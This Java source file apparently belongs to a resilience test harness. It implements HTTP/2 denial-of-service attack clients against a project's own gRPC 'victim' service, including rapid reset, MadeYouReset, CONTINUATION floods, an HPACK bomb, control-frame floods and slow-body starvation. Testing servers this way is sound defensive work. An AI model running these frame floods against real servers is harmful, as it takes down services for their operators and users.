package io.rpcboot.hostile.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.Arrays;

/** Attacks by a client that speaks HTTP/2. */
final class Http2Roles {

	private static final String FEEDS = "/io.rpcboot.hostile.victim.VictimFeeds/";

	private static final String FEED = FEEDS + "Feed";

	private static final int BURST = 64 * 1024;

	/** Bytes of a stream that nobody grants. */
	private static final int STREAM_WINDOW = 65_535;

	private static final int SMALL_RECEIVE_BUFFER = 4096;

	private static final int MAX_FRAME = 16_384;

	private Http2Roles() {
	}

	/** Writes the next frames of an attack. */
	@FunctionalInterface
	interface Frames {

		/**
		 * Writes frames.
		 * @param streamId id of a new stream
		 */
		void write(ByteArrayOutputStream out, int streamId);

	}

	/** Sends frames as fast as it can, or a number of them. */
	static final class Flood implements Role {

		private final Frames frames;

		private final boolean reads;

		private int left;

		private int streamId = -1;

		private HostileConnection connection;

		/**
		 * Creates a role.
		 * @param frames writes a round of frames
		 * @param rounds number of rounds
		 * @param reads true if it reads what the victim sends
		 */
		Flood(Frames frames, int rounds, boolean reads) {
			this.frames = frames;
			this.left = rounds;
			this.reads = reads;
		}

		@Override
		public boolean isNative() {
			return false;
		}

		@Override
		public int receiveBuffer() {
			return this.reads ? 0 : SMALL_RECEIVE_BUFFER;
		}

		@Override
		public void begin(HostileConnection opened) {
			this.connection = opened;
			opened.send(Http2Speech.preface(), ByteBuffer.wrap(Http2Speech.frame(Http2Speech.SETTINGS, 0, 0)));
			if (!this.reads) {
				opened.stopReading();
			}
		}

		@Override
		public void drained() {
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			while (this.left > 0 && out.size() < BURST) {
				this.left--;
				this.streamId += 2;
				this.frames.write(out, this.streamId);
			}
			if (out.size() > 0) {
				this.connection.send(ByteBuffer.wrap(out.toByteArray()));
			}
		}

		/** A connection that the victim has closed is found by a write. */
		@Override
		public void look(long nowNanos) {
			if (this.left == 0 && !this.reads && !this.connection.hasUnsent()) {
				this.connection.send(ByteBuffer.wrap(Http2Speech.frame(Http2Speech.UNKNOWN, 0, 0)));
			}
		}

	}

	/** Opens streams and resets them. */
	static Role rapidReset() {
		return endless((out, id) -> {
			out.writeBytes(Http2Speech.call(id, Http2Speech.path("Sleep"), 10));
			out.writeBytes(Http2Speech.frame(Http2Speech.RST_STREAM, 0, id, (byte) 0, (byte) 0, (byte) 0, (byte) 8));
		});
	}

	/** Opens streams and lets the victim reset them. */
	static Role madeYouReset() {
		return endless((out, id) -> {
			out.writeBytes(Http2Speech.call(id, Http2Speech.path("Sleep"), 10));
			out.writeBytes(Http2Speech.frame(Http2Speech.WINDOW_UPDATE, 0, id, new byte[4]));
			out.writeBytes(Http2Speech.frame(Http2Speech.DATA, 0, id, new byte[1]));
		});
	}

	private static Role endless(Frames frames) {
		return new Flood(frames, Integer.MAX_VALUE, true);
	}

	/** Sends one block without end. */
	static Role continuation(int length) {
		return endless((out, id) -> {
			if (id == 1) {
				out.writeBytes(Http2Speech.frame(Http2Speech.HEADERS, 0, 1, Http2Speech.request("/x")));
			}
			out.writeBytes(Http2Speech.frame(Http2Speech.CONTINUATION, 0, 1, new byte[length]));
		});
	}

	/** Sends frames of one type without end. */
	static Role control(int number, boolean reads) {
		byte[] frame = switch (number % 5) {
			case 0 -> Http2Speech.settings(Http2Speech.INITIAL_WINDOW_SIZE, STREAM_WINDOW);
			case 1 -> Http2Speech.frame(Http2Speech.PING, 0, 0, new byte[Long.BYTES]);
			case 2 -> Http2Speech.frame(Http2Speech.PRIORITY, 0, 3, new byte[5]);
			case 3 -> Http2Speech.frame(Http2Speech.UNKNOWN, 0, 0);
			default -> Http2Speech.frame(Http2Speech.WINDOW_UPDATE, 0, 0, (byte) 0, (byte) 0, (byte) 0, (byte) 1);
		};
		return new Flood((out, id) -> out.writeBytes(frame), Integer.MAX_VALUE, reads);
	}

	/** Sends DATA without bytes, or each with one byte. */
	static Role emptyData(int length) {
		return endless((out, id) -> {
			if (id == 1) {
				out.writeBytes(Http2Speech.headers(1, Http2Speech.path("Echo")));
			}
			out.writeBytes(Http2Speech.frame(Http2Speech.DATA, 0, 1, new byte[length]));
		});
	}

	/** Takes long responses by one byte at a time. */
	static Role windowOfOne() {
		return endless((out, id) -> {
			if (id == 1) {
				out.writeBytes(Http2Speech.settings(Http2Speech.INITIAL_WINDOW_SIZE, 1));
				for (int i = 1; i < 200; i += 2) {
					out.writeBytes(Http2Speech.call(i, Http2Speech.path("Make"), 60_000));
				}
			}
			int stream = id % 200 | 1;
			out.writeBytes(
					Http2Speech.frame(Http2Speech.WINDOW_UPDATE, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 1));
		});
	}

	/** Enters one long field, and refers to it again and again. */
	static Role hpackBomb() {
		ByteArrayOutputStream first = new ByteArrayOutputStream();
		first.writeBytes(Http2Speech.request(Http2Speech.path("Add")));
		first.write(0x40);
		Http2Speech.text(first, "bomb");
		Http2Speech.text(first, "x".repeat(4000));
		byte[] references = new byte[MAX_FRAME - 100];
		Arrays.fill(references, (byte) 0xbe);
		ByteArrayOutputStream next = new ByteArrayOutputStream();
		next.writeBytes(Http2Speech.request(Http2Speech.path("Add")));
		next.write(references, 0, references.length - next.size());
		return endless((out, id) -> out.writeBytes(Http2Speech.frame(Http2Speech.HEADERS,
				Http2Speech.END_HEADERS | Http2Speech.END_STREAM, id, ((id == 1) ? first : next).toByteArray())));
	}

	/** Sends header lists over the limit, each with other texts. */
	static Role headerLists() {
		return endless((out, id) -> {
			ByteArrayOutputStream block = new ByteArrayOutputStream();
			block.writeBytes(Http2Speech.request(Http2Speech.path("Add")));
			for (int i = 0; i < 150; i++) {
				block.write(0x40);
				Http2Speech.text(block, "n" + id + "-" + i);
				Http2Speech.text(block, "v".repeat(80));
			}
			out.writeBytes(Http2Speech.frame(Http2Speech.HEADERS, Http2Speech.END_HEADERS | Http2Speech.END_STREAM, id,
					block.toByteArray()));
		});
	}

	/** Announces messages and sends a few bytes of each. */
	static Role slowBodies(int length) {
		return new Flood((out, id) -> {
			out.writeBytes(Http2Speech.headers(id, Http2Speech.path("Echo")));
			out.writeBytes(Http2Speech.message(id, length, 0, (byte) 1, (byte) 2));
		}, 100, true);
	}

	/** Sends all of long messages that it may, and never the rest. */
	static Role heldBodies() {
		return new Flood((out, id) -> {
			out.writeBytes(Http2Speech.headers(id, Http2Speech.path("Echo")));
			out.writeBytes(Http2Speech.message(id, Speech.MAX_BODY - 1, 0));
			for (int i = 0; i < 3; i++) {
				out.writeBytes(Http2Speech.frame(Http2Speech.DATA, 0, id, new byte[MAX_FRAME]));
			}
		}, 100, true);
	}

	/** Opens streams that never end. */
	static Role endlessStreams() {
		return new Flood((out, id) -> out.writeBytes(Http2Speech.headers(id, Http2Speech.path("Echo"))), 10_000, true);
	}

	/** Opens as many streams as it may, each with the few bytes that a call needs. */
	static Role openStreams(boolean isCall) {
		byte[] block = isCall ? Http2Speech.request(Http2Speech.path("Echo")) : Http2Speech.request("/x", "text/plain");
		return new Flood(
				(out, id) -> out.writeBytes(Http2Speech.frame(Http2Speech.HEADERS, Http2Speech.END_HEADERS, id, block)),
				100, true);
	}

	/** Opens a connection and does nothing. */
	static Role idle() {
		return new Flood((out, id) -> {
		}, 0, true);
	}

	/** Sends calls whose results it does not read. */
	static Role unread() {
		return new Flood((out, id) -> out.writeBytes(Http2Speech.call(id, Http2Speech.path("Make"), 60_000)), 100,
				false);
	}

	/** Opens streams of elements that it does not read. */
	static Role unreadElements(int size) {
		return new Flood((out, id) -> out.writeBytes(Http2Speech.call(id, FEED, size)), 100, false);
	}

	/** Opens streams of elements that have no window. */
	static Role blockedElements() {
		return new Flood((out, id) -> {
			if (id == 1) {
				out.writeBytes(Http2Speech.settings(Http2Speech.INITIAL_WINDOW_SIZE, 0));
			}
			out.writeBytes(Http2Speech.call(id, FEED, 1000));
		}, 100, true);
	}

	/** Opens streams of elements and resets them. */
	static Role resetElements() {
		return endless((out, id) -> {
			out.writeBytes(Http2Speech.call(id, FEED, 100));
			if (id > 5) {
				out.writeBytes(
						Http2Speech.frame(Http2Speech.RST_STREAM, 0, id - 4, (byte) 0, (byte) 0, (byte) 0, (byte) 8));
			}
		});
	}

	/** Opens streams, sends elements of a length, and never the end. */
	static Role openUploads(String method, int elements, int length) {
		byte[] element = ByteBuffer.allocate(length).array();
		return new Flood((out, id) -> {
			out.writeBytes(Http2Speech.headers(id, FEEDS + method));
			for (int i = 0; i < elements; i++) {
				out.writeBytes(Http2Speech.message(id, length, 0, element));
			}
		}, 100, true);
	}

	/** Sends as many empty elements as fit a frame, on one stream after the other. */
	static Role emptyUploads(String method) {
		byte[] elements = new byte[MAX_FRAME];
		return endless((out, id) -> {
			out.writeBytes(Http2Speech.headers(id, FEEDS + method));
			out.writeBytes(Http2Speech.frame(Http2Speech.DATA, 0, id, elements));
			out.writeBytes(Http2Speech.message(id, 0, Http2Speech.END_STREAM));
		});
	}

	/** Opens streams, sends elements, and resets them. */
	static Role resetUploads(String method) {
		return endless((out, id) -> {
			out.writeBytes(Http2Speech.headers(id, FEEDS + method));
			out.writeBytes(Http2Speech.message(id, 100, 0, new byte[100]));
			if (id > 5) {
				out.writeBytes(
						Http2Speech.frame(Http2Speech.RST_STREAM, 0, id - 4, (byte) 0, (byte) 0, (byte) 0, (byte) 8));
			}
		});
	}

	/** Asks reflection for a file on many streams that have no window. */
	static Role blockedBuiltIn() {
		return new Flood((out, id) -> {
			if (id == 1) {
				out.writeBytes(Http2Speech.settings(Http2Speech.INITIAL_WINDOW_SIZE, 0));
			}
			byte[] question = question("Service");
			out.writeBytes(Http2Speech.headers(id, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"));
			out.writeBytes(Http2Speech.message(id, question.length, 0, question));
		}, 100, true);
	}

	/** Returns a request of reflection for the file with the service of the victim. */
	private static byte[] question(String end) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(0x22);
		Http2Speech.text(out, "io.rpcboot.hostile.victim.Victim" + end);
		return out.toByteArray();
	}

	/** Sends requests to health and reflection, whose responses it does not read. */
	static Role unreadBuiltIn(int number) {
		return new Flood((out, id) -> {
			String path = switch (number % 3) {
				case 0 -> "/grpc.health.v1.Health/Watch";
				case 1 -> "/grpc.health.v1.Health/Check";
				default -> "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
			};
			if (number % 3 < 2 || id == 1) {
				out.writeBytes(Http2Speech.headers(id, path));
			}
			byte[] question = (number % 3 < 2) ? Http2Speech.NOTHING : question("Serv");
			out.writeBytes(Http2Speech.message((number % 3 < 2) ? id : 1, question.length,
					(number % 3 < 2) ? Http2Speech.END_STREAM : 0, question));
		}, 100_000, false);
	}

	/** Sends fields of one letter for requests that do not end. */
	static Role fields(boolean withCredentials) {
		ByteArrayOutputStream block = new ByteArrayOutputStream();
		block.writeBytes(Http2Speech.request(Http2Speech.path("Echo")));
		fieldsOfOneLetter(block);
		if (withCredentials) {
			block.write(0);
			Http2Speech.text(block, "authorization");
			Http2Speech.text(block, "Bearer guess");
		}
		return new Flood(
				(out, id) -> out.writeBytes(
						Http2Speech.frame(Http2Speech.HEADERS, Http2Speech.END_HEADERS, id, block.toByteArray())),
				100, true);
	}

	/** Sends a long header block without its last byte. */
	static Role openBlocks() {
		return new Flood((out, id) -> {
			out.writeBytes(Http2Speech.frame(Http2Speech.HEADERS, 0, id, new byte[MAX_FRAME]));
			byte[] incomplete = Http2Speech.frame(Http2Speech.CONTINUATION, 0, id, new byte[MAX_FRAME]);
			out.write(incomplete, 0, incomplete.length - 1);
		}, 1, true);
	}

	/** Sends fields of one letter for one request that is refused, and nothing more. */
	static Role refusedFields() {
		ByteArrayOutputStream block = new ByteArrayOutputStream();
		block.writeBytes(Http2Speech.request("/unknown/Method"));
		fieldsOfOneLetter(block);
		return new Flood((out, id) -> out.writeBytes(Http2Speech.frame(Http2Speech.HEADERS,
				Http2Speech.END_HEADERS | Http2Speech.END_STREAM, id, block.toByteArray())), 1, true);
	}

	private static void fieldsOfOneLetter(ByteArrayOutputStream block) {
		for (int i = 0; i < 300; i++) {
			block.write(0);
			Http2Speech.text(block, "a");
			Http2Speech.text(block, "");
		}
	}

	/** Sends messages without their last byte. */
	static Role lastBytes(int length) {
		byte[] part = new byte[length - 1];
		return new Flood((out, id) -> {
			out.writeBytes(Http2Speech.headers(id, Http2Speech.path("Echo")));
			out.writeBytes(
					Http2Speech.message(id, length, 0, Arrays.copyOf(part, Math.min(part.length, MAX_FRAME / 2))));
			for (int at = MAX_FRAME / 2; at < part.length; at += MAX_FRAME / 2) {
				out.writeBytes(Http2Speech.frame(Http2Speech.DATA, 0, id,
						new byte[Math.min(part.length - at, MAX_FRAME / 2)]));
			}
		}, 100, true);
	}

	/** Opens streams and changes all of their windows again and again. */
	static Role windowsOfAllStreams() {
		return endless((out, id) -> {
			if (id < 200) {
				out.writeBytes(Http2Speech.call(id, Http2Speech.path("Sleep"), 10));
			}
			else {
				out.writeBytes(Http2Speech.settings(Http2Speech.INITIAL_WINDOW_SIZE, 1000 + id % 4 * 1000));
			}
		});
	}

	/** Makes up for each reset by a request that is refused. */
	static Role rapidResetBehindRefusals() {
		return endless((out, id) -> {
			if (id % 4 == 1) {
				out.writeBytes(Http2Speech.frame(Http2Speech.HEADERS, Http2Speech.END_HEADERS | Http2Speech.END_STREAM,
						id, Http2Speech.request("/unknown/Method")));
				return;
			}
			out.writeBytes(Http2Speech.call(id, Http2Speech.path("Sleep"), 10));
			out.writeBytes(Http2Speech.frame(Http2Speech.RST_STREAM, 0, id, (byte) 0, (byte) 0, (byte) 0, (byte) 8));
		});
	}

}
